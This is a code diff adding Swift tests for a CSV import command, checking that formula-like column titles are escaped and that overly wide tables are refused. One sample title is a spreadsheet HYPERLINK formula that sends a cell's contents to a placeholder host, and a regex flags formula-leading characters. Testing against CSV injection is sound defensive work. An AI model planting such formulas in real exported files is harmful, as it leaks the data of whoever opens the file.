@@ -179,6 +179,55 @@ struct TableImportTests {
         #expect(try await !direct.sql(offers).isEmpty)
     }
 
+    @Test("No title is a formula in the rejects or in a kept map, and both are read back as they were")
+    func formulasInTitles() async throws {
+        let database = try await Scratch.like(.sample)
+        let folder = try TestFolder.shared.newName("rejects")
+        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
+        let titles = [
+            "nom", "=HYPERLINK(\"http://x.example/?\"&A2)", "@Besoins", "-offres", "+1,5", "'t Hooft",
+        ]
+        let header = titles.map { $0.contains("\"") ? "\"" + $0.replacing("\"", with: "\"\"") + "\"" : $0 }
+            .joined(separator: ";")
+        let file = try TestFolder.shared.file("lieux.csv", header + "\n;a;couture;soudure;1;2\n")
+        let words = [
+            "community", "import", file, "--map", "needs=@Besoins", "--map", "offers='-offres", "--rejects",
+            "\(folder)/r.csv", "--save-map", "\(folder)/map.csv",
+        ]
+        let refused = try await database.home.run(
+            words, in: .en, environment: ["ENTRAIDE_DATABASE": database.conninfo])
+        #expect(refused.status == 65 && refused.figures["refused"] == "1", "\(refused)")
+        #expect(refused.err.contains("needs = C (@Besoins)"), "\(refused)")
+        let rejects = try String(contentsOfFile: "\(folder)/r.csv", encoding: .utf8)
+        #expect(
+            rejects.hasPrefix(
+                "nom;\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2)\";'@Besoins;'-offres;+1,5;'t Hooft;"),
+            "\(rejects)")
+        let map = try String(contentsOfFile: "\(folder)/map.csv", encoding: .utf8)
+        #expect(map.contains("\r\nneeds,'@Besoins\r\noffers,'-offres\r\n"), "\(map)")
+        for text in [rejects, map] {
+            #expect(text.matches(of: #/(?:^|[;,\n]"?)(?:[=@]|[+\-][^0-9])/#).isEmpty, "\(text)")
+        }
+        let mended = try TestFolder.shared.file(
+            "mended.csv", rejects.replacing("\r\n;", with: "\r\nVoisine;"))
+        let read = try await database.output("community", "import", mended, "--map", "\(folder)/map.csv")
+        #expect(read.figures["added"] == "1" && read.err.contains("needs = C (@Besoins)"), "\(read)")
+        #expect(try await database.output("need", "list", "voisine").fields.map { $0[1] } == ["couture"])
+    }
+
+    @Test("A table of too many columns is refused in both languages")
+    func tooWide() async throws {
+        let database = try await Scratch.like(.entraide)
+        let wide = "nom" + (1...1000).map { ";c\($0)" }.joined() + "\nUn\n"
+        for (tongue, words) in [
+            (Tongue.fr, "plus de 1000 colonnes\u{202F};"), (.en, "more than 1000 columns;"),
+        ] {
+            let run = try await database.run("community", "import", "-", in: tongue, input: wide)
+            #expect(run.status == 65 && run.err.contains(words), "\(run)")
+            #expect(run.err.contains("[too-many-columns]"), "\(run)")
+        }
+    }
+
     @Test("Refused rows are for their owner to read, and go where the name says, not where a link leads")
     func rejectsLead() async throws {
         let database = try await Scratch.like(.entraide)
